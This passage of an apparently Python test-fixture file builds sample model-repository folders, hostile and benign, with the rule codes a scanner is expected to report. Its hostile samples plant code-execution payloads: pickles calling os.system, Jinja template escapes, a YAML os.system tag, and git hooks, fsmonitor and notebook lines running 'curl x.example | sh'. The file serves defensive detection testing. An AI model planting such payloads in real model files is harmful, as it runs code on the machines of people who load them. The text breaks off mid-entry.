"""Repositories as hubs hold them: folders with code, adapters, leftovers of a training, links.

Hostile ones hide what runs beside weights that are fine; the good ones hold what real repositories
hold, much of which looks like trouble.
"""
import io
import json
import pickle
import struct
import zipfile
import zlib

from folder import (CARD, CONFIG, EVIL, PLAIN, TOKENIZER, as_json, diffusers, gguf, index, model,
                    safetensors, sharded, torch_zip, with_files)

RUN = b"import subprocess\nsubprocess.run(['id'])\n"
CUSTOM = as_json({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}})


def custom(code, **more):
    """A model with code of its own."""
    return with_files(model(), {"config.json": CUSTOM, "modeling_x.py": code,
                                **more})


def archive(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


def opcode_global(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def short(text):
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def storage(key, n, kind="FloatStorage"):
    """A persistent storage of n numbers, as torch.save names it."""
    return (b"(" + short("storage") + opcode_global("torch", kind) + short(key) + short("cpu") +
            b"J" + struct.pack("<i", n) + b"tQ")


def state_dict(tensors):
    """{name: floats}: the pickle of it, and the members with its numbers."""
    body, members = b"\x80\x02}(", {}
    for i, (name, n) in enumerate(tensors.items()):
        number = b"J" + struct.pack("<i", n)
        body += (short(name) + opcode_global("torch._utils", "_rebuild_tensor_v2") + b"(" +
                 storage(str(i), n) + b"K\x00" + number + b"\x85" + b"K\x01\x85" + b"\x89" +
                 opcode_global("collections", "OrderedDict") + b")RtR")
        members["archive/data/%d" % i] = bytes(4 * n)
    return body + b"u.", members


def torch_tensors(tensors):
    """A state dict as torch.save writes it."""
    body, members = state_dict(tensors)
    return archive({"archive/data.pkl": body, **members, "archive/version": b"3\n"})


def torch_legacy(tensors):
    """The same before torch 1.6: pickles, and the numbers behind them."""
    body, _ = state_dict(tensors)
    keys = [str(i) for i in range(len(tensors))]
    info = {"protocol_version": 1001, "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (pickle.dumps(0x1950a86a20f9469cfc6c, 2) + pickle.dumps(1001, 2) +
            pickle.dumps(info, 2) + body.replace(b"tQ", b"NtQ") + pickle.dumps(keys, 2) +
            b"".join(struct.pack("<q", n) + bytes(4 * n) for n in tensors.values()))


def shards(stem, ending, parts, write):
    """{file: bytes} of tensors in parts, and their index."""
    files, named = {}, {}
    for i, tensors in enumerate(parts, 1):
        name = "%s-%05d-of-%05d%s" % (stem, i, len(parts), ending)
        files[name] = write(tensors)
        named[name] = list(tensors)
    files["%s%s.index.json" % (stem, ending)] = index(named)
    return files


def arguments():
    """training_args.bin, as transformers.Trainer leaves it."""
    def member(name, value):
        return opcode_global("transformers.trainer_utils", name) + short(value) + b"\x85R"
    state = (short("output_dir") + short("out") +
             short("evaluation_strategy") + member("IntervalStrategy", "no") +
             short("lr_scheduler_type") + member("SchedulerType", "linear") +
             short("hub_strategy") + member("HubStrategy", "every_save") +
             short("save_strategy") + member("SaveStrategy", "steps") +
             short("optim") + opcode_global("transformers.training_args", "OptimizerNames") +
             short("adamw_torch") + b"\x85R" +
             short("accelerator_config") +
             opcode_global("transformers.trainer_pt_utils", "AcceleratorConfig") + b")\x81}(" +
             short("split_batches") + b"\x89ub" +
             short("distributed_state") + opcode_global("accelerate.state", "PartialState") +
             b")\x81}(" + short("device") + opcode_global("torch", "device") + short("cpu") +
             b"\x85R" + short("distributed_type") +
             opcode_global("accelerate.utils.dataclasses", "DistributedType") + short("NO") +
             b"\x85Rub")
    return torch_zip(b"\x80\x02" + opcode_global("transformers.training_args",
                                                 "TrainingArguments") +
                     b")\x81}(" + state + b"ub.")


def record(data):
    """One record of TensorBoard's event files."""
    def crc(data):
        value = 0xFFFFFFFF
        for byte in data:
            value ^= byte
            for _ in range(8):
                value = value >> 1 ^ (0x82F63B78 if value & 1 else 0)
        value ^= 0xFFFFFFFF
        return ((value >> 15 | value << 17) + 0xA282EAD8) & 0xFFFFFFFF
    head = struct.pack("<Q", len(data))
    return head + struct.pack("<I", crc(head)) + data + struct.pack("<I", crc(data))


EVENTS = record(b"\x09" + struct.pack("<d", 1.7e9) + b"\x1a\x0dbrain.Event:2")


def png():
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data)))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(bytes(2))) + chunk(b"IEND", b""))


PNG = png()


def bad_weights():
    yield ("pickle beside a twin", model(**{"pytorch_model.bin": EVIL}), ["MDL373"],
           "a pickle that is no zip at all, left beside safetensors")
    yield ("pickle in original", with_files(model(), {
        "original/consolidated.00.pth": torch_zip(EVIL)}), ["MDL373", "MDL370"], "the original form")
    yield ("pickle with an ending of prose", with_files(model(), {"notes.txt": EVIL}),
           ["MDL370", "MDL373"], "text by name")
    yield ("pickle as an image", with_files(model(), {"assets/logo.png": EVIL}),
           ["MDL370", "MDL373"], "an image by name")
    yield ("pickle behind an image", with_files(model(), {"logo.png": PNG + EVIL}),
           ["MDL370", "MDL371", "MDL372"], "an image in front")
    yield ("pickle without an ending", with_files(model(), {"weights": EVIL}), ["MDL373"],
           "no name")
    yield ("pickle as tokenizer", with_files(model(), {"tokenizer.model": EVIL}), ["MDL370"],
           "slow tokenizers of the model's own read what they like")
    yield ("pickle as vectors", with_files(model(), {"vocab/vectors": EVIL}), ["MDL373"],
           "as spaCy's")
    yield ("rng state", with_files(model(), {"rng_state.pth": torch_zip(EVIL)}), ["MDL373"],
           "opened to go on training")
    yield ("optimizer", with_files(model(), {"checkpoint-10/optimizer.pt": torch_zip(EVIL)}),
           ["MDL373"], "opened to go on training")
    yield ("arguments with a call", with_files(model(), {
        "training_args.bin": arguments()[:0] + torch_zip(
            b"\x80\x02" + opcode_global("transformers.training_args", "TrainingArguments") +
            b")\x81}(" + short("output_dir") + opcode_global("os", "system") + short("id") +
            b"\x85Rub.")}), ["MDL373"], "a call among the arguments of a training")
    yield ("shards of pickles, one hostile", with_files(sharded(2), {
        "pytorch_model-00001-of-00002.bin": torch_zip(),
        "pytorch_model-00002-of-00002.bin": torch_zip(EVIL),
        "pytorch_model.bin.index.json": index({"pytorch_model-00001-of-00002.bin": ["a"],
                                               "pytorch_model-00002-of-00002.bin": ["b"]})}),
           ["MDL373"], "the second of the shards that are not loaded")
    yield ("tar in a folder", with_files(model(), {"old/model.tar": archive({"a.pkl": EVIL})}),
           ["MDL370", "MDL373"], "a zip by another name with a pickle in it")
    yield ("a whole model in a zip", {"model.zip": archive(model(**{"pytorch_model.bin": EVIL}))},
           [], "inspected member by member")
    yield ("hidden folder", with_files(model(), {".cache/x/weights.pkl": EVIL}), ["MDL370", "MDL373"],
           "a folder that file managers do not show")
    yield ("compiled code", with_files(custom(b"class X: pass\n"), {
        "__pycache__/modeling_x.cpython-311.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(30)}),
           [], "Python takes the compiled form")


def bad_twins():
    yield ("twin of another size", model(**{
        "model.safetensors": safetensors({"a": 4}),
        "pytorch_model.bin": torch_tensors({"a": 400})}), ["MDL390"],
           "the safetensors file is not the pickle's")
    yield ("twin of another amount", model(**{
        "model.safetensors": safetensors({"t%d" % i: 1000 for i in range(4)}),
        "pytorch_model.bin": torch_tensors({"t%d" % i: 1000 for i in range(40)})}), ["MDL390"],
           "a tenth of the tensors")
    yield ("twin with other tensors", model(**{
        "model.safetensors": safetensors({"x%d" % i: 10 for i in range(10)}),
        "pytorch_model.bin": torch_tensors({"y%d" % i: 10 for i in range(10)})}), ["MDL390"],
           "as many bytes, and no name is the same")
    yield ("twin with other shapes", model(**{
        "model.safetensors": safetensors({"a": 10, "b": 20}),
        "pytorch_model.bin": torch_tensors({"a": 15, "b": 15})}), ["MDL390"],
           "the same names and bytes")
    yield ("twin of a checkpoint", with_files(model(), {
        "last.safetensors": safetensors({"a": 4}),
        "last.ckpt": torch_tensors({"z": 400, "y": 5})}), ["MDL390"], "a pair by its name")
    yield ("twin with more", model(**{
        "model.safetensors": safetensors({"t%d" % i: 10 for i in range(40)}),
        "pytorch_model.bin": torch_tensors({"t%d" % i: 10 for i in range(4)})}), ["MDL390"],
           "tensors that the pickle never had")


    parts = [{"layer.%d.%s" % (i, k): 10 * i for k in "wb"} for i in (1, 2, 3)]
    other = [{"other.%d.%s" % (i, k): 7 * i for k in "xyz"} for i in (1, 2)]
    base = {"config.json": CONFIG, "README.md": CARD}
    yield ("twin in shards, and a pickle", {
        **base, **shards("model", ".safetensors", other, safetensors),
        "pytorch_model.bin": torch_tensors({k: v for p in parts for k, v in p.items()})},
           ["MDL390"], "shards of another model")
    yield ("twins in shards", {
        **base, **shards("model", ".safetensors", other, safetensors),
        **shards("pytorch_model", ".bin", parts, torch_tensors)}, ["MDL390"],
           "shards of two models")
    yield ("one file, and a pickle in shards", {
        **base, "model.safetensors": safetensors({"evil": 3}),
        **shards("pytorch_model", ".bin", parts, torch_tensors)}, ["MDL390"],
           "one file of another model")
    yield ("twin of an old pickle", {
        **base, "model.safetensors": safetensors({"evil": 3}),
        "pytorch_model.bin": torch_legacy(parts[0])}, ["MDL390"], "the form before torch 1.6")
    yield ("twin in a part of a pipeline", diffusers(**{
        "unet/diffusion_pytorch_model.bin": torch_tensors({"z": 77, "y": 5})}), ["MDL390"],
           "one part of many")
    yield ("twin behind a variant", model(**{
        "model.fp16.safetensors": safetensors({"evil.x": 100}), "model.safetensors": None,
        "pytorch_model.bin": torch_tensors({"a": 4})}), ["MDL390"], "a variant goes before a pickle")


def bad_indexes():
    yield ("index with an absolute path", with_files(sharded(2), {
        "model.safetensors.index.json": index({"/etc/x.safetensors": ["a"]})}),
           ["MDL370", "MDL104"], "outside of the model")
    yield ("index that climbs inside", with_files(sharded(2), {
        "model.safetensors.index.json": index({"a/../../x.safetensors": ["a"]})}),
           ["MDL370", "MDL104"], "out by way of a folder within")
    yield ("index with a drive", with_files(sharded(2), {
        "model.safetensors.index.json": index({"C:\\x.safetensors": ["a"]})}),
           ["MDL370", "MDL104", "MDL371"], "a path of Windows")
    yield ("index of pickles that names another kind", {
        "config.json": CONFIG, "README.md": CARD,
        "model.safetensors.index.json": index({"weights-00001-of-00001.bin": ["a"]}),
        "weights-00001-of-00001.bin": torch_zip(EVIL)}, ["MDL370"],
           "an index of safetensors that leads to a pickle")
    yield ("link out", with_files(model(), {"model.safetensors": "/etc/hostname"}), [],
           "the weights are a link out of the folder")
    yield ("link up", with_files(model(), {"a/b.safetensors": "../../../x"}), [],
           "a link above the folder")
    yield ("links in a circle", with_files(model(), {"model.safetensors": "m2", "m2":
                                                     "model.safetensors"}), [], "a circle")
    yield ("same shard twice", with_files(sharded(2, drop=(2,)), {
        "model-00002-of-00002.safetensors": safetensors({"layer.1.w": 4, "layer.1.b": 4})}),
           ["MDL381"], "the first shard again")
    yield ("two sets of shards", with_files(sharded(2), {
        "model-00001-of-00003.safetensors": safetensors({"layer.1.w": 4}),
        "model-00002-of-00003.safetensors": safetensors({"layer.2.w": 4}),
        "model-00003-of-00003.safetensors": safetensors({"layer.3.w": 4})}), ["MDL380"],
           "two versions in one folder")
    yield ("both forms of the weights", with_files(sharded(2), {
        "model.safetensors": safetensors({"evil": 4})}), ["MDL391"],
           "one file that goes before the index")


def bad_code():
    sample = b"import requests\nrequests.get(url)\n"
    yield ("document that is code", with_files(model(), {"docs.py": RUN, "docs.md": sample}), ["MDL370"],
           "what is code by its name is no document")
    yield ("folder that is no model", {"readme.md": b"# x\n\nimport requests\n", "a.json": b"{}\n"},
           ["UPL003"], "an upload like any other")
    yield ("pipeline named without a version", diffusers(**{
        "model_index.json": as_json({"_class_name": ["pipe", "P"]}), "pipe.py": b"class P: pass\n"}),
           ["MDL102", "MDL101"], "only _class_name is read")
    yield ("nested auto_map", with_files(model(), {
        "config.json": as_json({"model_type": "x", "text_config": {
            "auto_map": {"AutoModel": "m.X"}}}), "m.py": b"class X: pass\n"}), ["MDL102"],
           "in a part of the configuration")
    yield ("generation with code", with_files(model(), {
        "generation_config.json": as_json({"auto_map": {"X": "m.X"}}), "m.py": b"class X: pass\n"}),
           ["MDL102"], "in another configuration")
    yield ("code that loads a pickle", custom(
        b"import torch\nclass X:\n    w = torch.load('a.bin', weights_only=False)\n"),
           ["MDL370", "MDL371"], "the model's code opens what the configuration does not name")
    yield ("code that trusts others", custom(
        b"from transformers import AutoModel\nm = AutoModel.from_pretrained('evil/x', "
        b"trust_remote_code=True)\nclass X: pass\n"), ["MDL370", "MDL371"],
           "code of a third repository")
    yield ("index that is cut off", with_files(sharded(2), {
        "model.safetensors.index.json": b'{"weight_map": {"a": "model-00001-of-00002.safetensors"'}),
           ["MDL372", "MDL371"], "a loader fails, another is tolerant")
    yield ("index with two maps", with_files(sharded(2), {
        "model.safetensors.index.json":
        b'{"weight_map":{"layer.1.w":"model-00001-of-00002.safetensors"},'
        b'"weight_map":{"x":"evil.safetensors"}}'}), [], "the last one counts, or the first")
    yield ("weights that are a pickle by content", model(**{"model.safetensors": EVIL}), ["MDL370"],
           "a pickle by the name of safetensors")
    yield ("code in a folder within", with_files(model(), {
        "config.json": as_json({"model_type": "x", "auto_map": {"AutoModel": "lib.modeling.X"}}),
        "lib/modeling.py": RUN + b"class X: pass\n"}), ["MDL370"], "a module in a package")
    yield ("code in __init__", custom(b"class X: pass\n", **{"__init__.py": RUN}), ["MDL370"],
           "runs before the module")
    yield ("code by relative import", custom(b"from . import helper\nclass X: pass\n",
                                             **{"helper.py": RUN}), ["MDL370"], "two hops")
    yield ("library beside", custom(b"from . import _fast\nclass X: pass\n", **{
        "_fast.so": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(40)}),
           [], "a library in place of a module")
    yield ("harmless code", custom(b"class X: pass\n"), ["MDL371", "MDL102"],
           "whatever it is, somebody reads it first")
    yield ("code that is not there", with_files(model(), {"config.json": CUSTOM}),
           ["MDL371", "MDL385"], "fetched from elsewhere, or put there later")
    yield ("code of another repository", with_files(model(), {"config.json": as_json({
        "model_type": "x", "auto_map": {"AutoModel": "who/repo--modeling_x.X"}})}),
           ["MDL103"], "what runs lies elsewhere")
    yield ("code of the tokenizer", with_files(model(), {
        "tokenizer_config.json": as_json({"auto_map": {"AutoTokenizer": ["tok.T", None]}}),
        "tok.py": RUN}), ["MDL370"], "auto_map of a tokenizer")
    yield ("code of the processor", with_files(model(), {
        "preprocessor_config.json": as_json({"auto_map": {"AutoProcessor": "proc.P"}}),
        "proc.py": RUN}), ["MDL370"], "auto_map of a processor")
    yield ("generation of its own", with_files(model(), {"custom_generate/generate.py": RUN}),
           ["MDL370"], "custom_generate=, run by generate()")
    yield ("harmless generation of its own", with_files(model(), {
        "custom_generate/generate.py": b"def generate(model, **k):\n    return model\n"}),
           ["MDL392"], "no configuration names it, and it runs")
    yield ("a pipeline of its own", diffusers(**{"pipeline.py": RUN}), ["MDL370"],
           "custom_pipeline=, run by from_pretrained()")
    yield ("a harmless pipeline of its own", diffusers(**{
        "pipeline.py": b"class P: pass\n"}), ["MDL392"],
           "no configuration names it, and it runs")
    yield ("a part of its own", diffusers(**{
        "model_index.json": as_json({"_class_name": ["pipeline_x", "P"],
                                     "unet": ["unet_x", "UNetX"]}),
        "unet/unet_x.py": RUN}), ["MDL370"], "a module beside its weights")
    yield ("a harmless part of its own", diffusers(**{
        "model_index.json": as_json({"_class_name": "StableDiffusionPipeline",
                                     "unet": ["unet_x", "UNetX"]}),
        "unet/unet_x.py": b"class UNetX: pass\n"}), [], "a module beside its weights")
    yield ("a module of sentence-transformers", with_files(model(), {
        "modules.json": as_json([{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]),
        "config_sentence_transformers.json": b"{}\n", "custom_st.py": b"class Transformer: pass\n"}),
           ["MDL101", "MDL371"], "a type of its own")
    yield ("template that breaks out", with_files(model(), {
        "chat_template.jinja": b"{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
           ["MDL370"], "a chat template")
    yield ("template in another file", with_files(model(), {
        "chat_template.json": as_json({"chat_template":
                                       "{{ ''.__class__.__mro__[1].__subclasses__() }}"})}),
           ["MDL370"], "a processor's template")
    yield ("one of many templates", with_files(model(), {
        "additional_chat_templates/rag.jinja": b"{{ lipsum.__globals__['os'].system('id') }}"}),
           ["MDL370"], "templates in a folder of their own")
    yield ("card with a tag", model(**{"README.md": b"---\nlicense: !!python/object/apply:os.system"
                                       b" ['id']\n---\n# A\n"}), [], "front matter for yaml.load")
    yield ("code paths of MLflow", {
        "MLmodel": b"flavors:\n  python_function:\n    loader_module: mine\n    code: code\n"
                   b"    data: data\n", "code/mine.py": RUN, "data/x.txt": b"a\n"}, ["MDL370"],
           "MLmodel puts a folder in front of sys.path")
    yield ("server archive", with_files(model(), {"model.mar": archive({
        "MAR-INF/MANIFEST.json": as_json({"model": {"handler": "h.py", "modelName": "m"}}),
        "h.py": RUN})}), ["MDL370"], "a handler of TorchServe: its code is judged")
    yield ("notebook", with_files(model(), {"try.ipynb": as_json({
        "nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
             "source": ["import os\n", "os.system('curl http://x.example | sh')\n"]}]})}),
           ["MDL370", "MDL371"], "a cell that fetches and runs")
    yield ("hooks", with_files(model(), {".git/hooks/post-checkout": b"#!/bin/sh\ncurl x.example|sh\n"}),
           [], "git runs it")
    yield ("git that asks a program", with_files(model(), {
        ".git/config": b"[core]\n\tbare = false\n\tfsmonitor = \"curl x.example | sh\"\n"}),
           ["MDL393"], "git status runs it")
    yield ("git with a filter", with_files(model(), {
        ".gitattributes": b"* filter=x\n", ".git/config":
        b"[core]\n\tbare = false\n[filter \"x\"]\n\tSmudge = sh -c id\n"}), ["MDL393"],
           "git checkout runs it")
    yield ("git with an alias", with_files(model(), {".git/config": b"[core]\n[alias]\nst = !id"}),
           ["MDL393"], "git st runs it")
    yield ("submodule", with_files(model(), {
        ".gitmodules": b"[submodule \"a\"]\n\tpath = a\n\turl = ext::sh -c id\n"}), ["MDL393"],
           "git submodule update runs it")
    yield ("handler", with_files(model(), {"handler.py": RUN}), ["MDL370"],
           "an inference endpoint runs it")
    yield ("harmless handler", with_files(model(), {
        "handler.py": b"class EndpointHandler:\n    def __init__(self, path=''):\n        pass\n"}),
           ["MDL392"], "no configuration names it, and an inference endpoint runs it")
    yield ("setup", with_files(model(), {"setup.py": RUN}), ["MDL370"], "pip install . runs it")
    yield ("requirements", with_files(model(), {
        "requirements.txt": b"--index-url http://pypi.example.org/simple\ntorch\n"}), [],
           "packages from another place")
    yield ("adapter with code", {
        "adapter_config.json": as_json({"peft_type": "LORA", "auto_mapping": {
            "base_model_class": "X", "parent_library": "mine"}, "base_model_name_or_path": "a/b"}),
        "adapter_model.safetensors": safetensors({"a": 4}), "README.md": CARD,
        "mine.py": b"class X: pass\n"}, ["MDL101", "MDL371"], "parent_library is imported")


def bad():
    yield from bad_weights()
    yield from bad_twins()
    yield from bad_indexes()
    yield from bad_code()


def bad_under_model():
    yield ("harmless code", custom(b"class X: pass\n"), ["MDL102"],
           "the policy for models judges no Python: the code is not admitted unread")
    yield ("code that runs something", custom(RUN), ["MDL102"], "nor this")
    yield ("code that is not there", with_files(model(), {"config.json": CUSTOM}), ["MDL102"],
           "nor what is fetched from elsewhere")
    yield ("code of a pipeline", diffusers(**{"pipeline.py": b"class P: pass\n"}), ["MDL392"],
           "nor what runs by its name")
    yield ("code that no configuration names", with_files(model(), {
        "helper.py": b"x = 1\n"}), ["MDL372", "PYS003"], "nor what lies there")


def vision_card():
    return (b"---\nlicense: mit\ntags:\n- vision\n---\n# Use\n\n```python\nimport requests\nfrom PIL "
            b"import Image\nimage = Image.open(requests.get(url, stream=True).raw)\n```\n\n```\n"
            b"import subprocess\nsubprocess.run('pip install flash-attn', shell=True)\n```\n")


def good():
    yield ("card with samples", model(**{"README.md": vision_card()}), [],
           "every model of vision tells how to fetch a picture")
    plain = b"# Use\n```python\nimport requests\nimage = requests.get(url)\n```\n"
    yield ("documents with samples", with_files(model(), {
        "README.md": plain, "README_zh.md": plain, "docs/usage.md": plain, "MODEL_CARD.md": plain,
        "docs/index.rst": plain}), [], "documents of a model, without the front matter of a card")
    yield ("documents of a pipeline", diffusers(**{"unet/README.md": plain}), [],
           "a document in a part of it")
    yield ("merges and words", with_files(model(), {
        "merges.txt": b"#version: 0.2\neval (x\nos .system(x\n", "vocab.txt": b"a b\neval(x\n"}), [],
           "words with blanks")
    yield ("first configuration of Stable Diffusion", diffusers(**{
        "v1-inference.yaml": b"model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n"
                             b"  params:\n    cond_stage_config:\n"
                             b"      target: ldm.modules.encoders.modules.FrozenCLIPEmbedder\n"}), [],
           "classes of the code that it was trained with")
    yield ("card with tables", model(**{"README.md": b"---\nlanguage:\n- en\nmodel-index:\n- name: x\n"
        b"  results:\n  - task:\n      type: t\n    metrics:\n    - value: 1\n---\n\n```bash\n"
        b"pip install x\n```\n\n>>> import requests\n"}), [], "results of evaluations")
    yield ("git of a clone", with_files(model(), {".git/config":
        b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n[remote "
        b"\"origin\"]\n\turl = https://huggingface.co/a/b\n\tfetch = +refs/heads/*:refs/remotes/"
        b"origin/*\n[filter \"lfs\"]\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs "
        b"filter-process\n\trequired = true\n[credential]\n\thelper = store\n",
        ".gitmodules": b"[submodule \"a\"]\n\tpath = a\n\turl = https://x.example/a.git\n",
        ".git/HEAD": b"ref: refs/heads/main\n"}), [], "what git and Git LFS write")
    yield ("training leftovers", with_files(model(), {
        "training_args.bin": arguments(), "optimizer.pt": torch_tensors({"0": 4}),
        "scheduler.pt": torch_zip(), "rng_state.pth": torch_zip(),
        "trainer_state.json": as_json({"global_step": 1, "log_history": [{"loss": 1.0}]}),
        "all_results.json": as_json({"eval_loss": 1.0}), "train_results.json": b"{}\n",
        "runs/Nov26_host/events.out.tfevents.1700000000.host.1.0": EVENTS}), [],
           "as transformers.Trainer leaves a folder")
    yield ("checkpoints within", with_files(model(), {
        "checkpoint-10/" + name: data for name, data in model(**{"README.md": None}).items()}), [],
           "a checkpoint of a training")
    yield ("exports", with_files(model(), {
        "openvino/openvino_model.xml": b'<?xml version="1.0"?>\n<net name="m" version="11">\n'
        b'<layers>\n<layer id="0" name="c" type="Const" version="opset1">\n<data element_type="f32" '
        b'shape="16" offset="0" size="64"/>\n<output><port id="0" precision="FP32"><dim>16</dim>'
        b"</port></output>\n</layer>\n</layers>\n<edges>\n</edges>\n<rt_info/>\n</net>\n",
        "openvino/openvino_model.bin": bytes(64)}), [], "an export of OpenVINO")
    yield ("original form", with_files(sharded(2), {
        "original/consolidated.00.pth": torch_tensors({"a": 4}),
        "original/params.json": as_json({"dim": 8}),
        "original/tokenizer.model": b"IQ== 0\nIg== 1\n",
        "USE_POLICY.md": b"# Use\n", "LICENSE": b"LLAMA 3 COMMUNITY LICENSE AGREEMENT\n"}), [],
           "as Llama comes")
    yield ("twin", model(**{"model.safetensors": safetensors({"a": 4, "b": 8}),
                            "pytorch_model.bin": torch_tensors({"a": 4, "b": 8})}), ["MDL376"],
           "the same tensors")
    yield ("twin without a buffer", model(**{
        "model.safetensors": safetensors({"t%d" % i: 1000 for i in range(10)}),
        "pytorch_model.bin": torch_tensors({**{"t%d" % i: 1000 for i in range(10)},
                                            "position_ids": 64})}), ["MDL376"],
           "buffers are no longer saved")
    yield ("attributes and pictures", with_files(model(), {
        ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n", ".gitignore": b"*.swp\n",
        "assets/logo.png": PNG, "figures/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"></svg>\n',
        "LICENSE.md": b"MIT\n", "LICENSE-CODE": b"MIT\n", "NOTICE": b"n\n",
        "CITATION.cff": b"cff-version: 1.2.0\ntitle: x\n"}), [], "papers and pictures")
    yield ("links of a cache", {
        "blobs/aa": CONFIG, "blobs/bb": safetensors({"a": 4}), "blobs/cc": CARD,
        "refs/main": b"0" * 40, "snapshots/" + "0" * 40 + "/config.json": "../../blobs/aa",
        "snapshots/" + "0" * 40 + "/model.safetensors": "../../blobs/bb",
        "snapshots/" + "0" * 40 + "/README.md": "../../blobs/cc"}, [], "huggingface_hub's cache")
    yield ("spaCy", {
        "config.cfg": b'[nlp]\nlang = "en"\npipeline = ["tagger"]\n\n[components.tagger]\n'
                      b'factory = "tagger"\n\n[components.tagger.model]\n'
                      b'@architectures = "spacy.Tagger.v2"\nnO = null\n',
        "meta.json": as_json({"lang": "en", "name": "sm", "license": "MIT"}),
        "vocab/strings.json": as_json(["a"]), "vocab/lookups.bin": b"\x80", "vocab/key2row": b"\x80",
        "vocab/vectors.cfg": b"\x81\xa4mode\xa7default", "tagger/cfg": as_json({"labels": ["A"]}),
        "tagger/model": b"\x84\xa5nodes\x90\xa5attrs\x90\xa6params\x90\xa5shims\x90"}, [],
           "a small pipeline: empty maps of one byte")
    yield ("timm", model(**{"config.json": as_json({
        "architecture": "resnet18", "num_classes": 10, "pretrained_cfg": {
            "tag": "a1_in1k", "custom_load": False, "mean": [0.4], "first_conv": "conv1"}}),
        "tokenizer.json": None}), [], "as timm saves it")
    yield ("several quantizations", {"README.md": CARD, "x.Q4_K_M.gguf": gguf(),
                                     "x.Q8_0.gguf": gguf(), "config.json": CONFIG}, [],
           "one of them is loaded")
    yield ("adapter of a hub's model", {
        "adapter_config.json": as_json({"peft_type": "LORA", "auto_mapping": None, "r": 8,
                                        "base_model_name_or_path": "meta-llama/Llama-2-7b-hf"}),
        "adapter_model.safetensors": safetensors({"a": 4}), "README.md": CARD,
        "added_tokens.json": as_json({"<x>": 1})}, [], "as PEFT saves it")
    yield ("adapter of a path", {
        "adapter_config.json": as_json({"peft_type": "LORA",
                                        "base_model_name_or_path": "../../../../tmp/x"}),
        "adapter_model.safetensors": safetensors({"a": 4}), "README.md": CARD}, ["MDL255"],
           "where it was trained")
    yield ("adapter of an address", {
        "adapter_config.json": as_json({"peft_type": "LORA",
                                        "base_model_name_or_path": "http://x.example/m"}),
        "adapter_model.safetensors": safetensors({"a": 4}), "README.md": CARD}, ["MDL255"],
           "nothing fetches a model by its address")
    yield ("adapter beside its tokenizer", with_files(model(), {
        "adapter_config.json": as_json({"peft_type": "LORA", "base_model_name_or_path": "a/b"}),
        "adapter_model.bin": torch_tensors({"a": 4})}), [], "an adapter in the model's folder")
    yield ("sampling", model(**{"generation_config.json": as_json({
        "do_sample": True, "temperature": 0.6, "eos_token_id": [1, 2]})}), [], "generation settings")
    yield ("chat template", model(**{
        "chat_template.jinja": b"{%- for m in messages %}{{ m['role'] + m.content | trim }}"
                               b"{%- endfor %}"}), [], "a plain template")
    yield ("evaluation tables", with_files(model(), {
        "eval/results.csv": b"a,b\n1,2\n", "eval/triplets.tsv": b"a\tb\n",
        "similarity_evaluation.csv": b"epoch,steps\n1,2\n"}), [], "tables")
    yield ("sizes within", with_files(model(), {
        "1_Dense/config.json": as_json({"in_features": 4, "out_features": 4, "bias": True,
                                        "activation_function":
                                        "torch.nn.modules.linear.Identity"}),
        "1_Dense/model.safetensors": safetensors({"linear.weight": 16}),
        "modules.json": as_json([
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Dense", "type": "sentence_transformers.models.Dense"}]),
        "config_sentence_transformers.json": b"{}\n"}), [], "a dense layer of sentence-transformers")
    yield ("half precision twin", model(**{
        "model.safetensors": safetensors({"a": 5000, "b": 3000}),
        "pytorch_model.bin": torch_tensors({"a": 5000, "b": 3000})}), [], "the same")
    parts = [{"layer.%d.%s" % (i, k): 10 * i for k in "wb"} for i in (1, 2, 3)]
    whole = {k: v for p in parts for k, v in p.items()}
    yield ("twins in shards of other numbers", {
        "config.json": CONFIG, "README.md": CARD,
        **shards("model", ".safetensors", [whole], safetensors),
        **shards("pytorch_model", ".bin", parts, torch_tensors)}, ["MDL376"],
           "the same tensors, cut in another way")
    yield ("one pickle, and shards", {
        "config.json": CONFIG, "README.md": CARD,
        **shards("model", ".safetensors", parts, safetensors),
        "pytorch_model.bin": torch_tensors(whole)}, ["MDL376"], "the same tensors")
    yield ("old pickle", model(**{"model.safetensors": safetensors(whole),
                                  "pytorch_model.bin": torch_legacy(whole)}), ["MDL376"],
           "the form before torch 1.6")
    yield ("twin with a prefix", model(**{
        "model.safetensors": safetensors({"bert.encoder." + k: v for k, v in whole.items()}),
        "pytorch_model.bin": torch_tensors({"encoder." + k: v for k, v in whole.items()})}),
           ["MDL376"], "saved from another class")
    yield ("checkpoint with its optimizer", with_files(model(), {
        "last.safetensors": safetensors({"a": 4000}),
        "last.ckpt": torch_tensors({"a": 4000, "exp_avg": 4000, "exp_avg_sq": 4000, "x": 90000})}),
           [], "a training's checkpoint and its weights")
    yield ("tied twin", model(**{
        "model.safetensors": safetensors({"a": 5000, "b": 30}),
        "pytorch_model.bin": torch_tensors({"a": 5000, "b": 30})}), [], "the same")
    yield ("language files", with_files(model(), {
        "merges.txt": b"#version: 0.2\nev al\neval (\n", "vocab.txt": b"eval(\nos.system(x\n##exec(\n",
        "vocab.json": as_json({"os.system(x)": 1, "eval(": 2, "import": 3}),
        "added_tokens.json": as_json({"eval(": 4})}), [],
           "words of a vocabulary")
    yield ("demonstration", with_files(model(), {
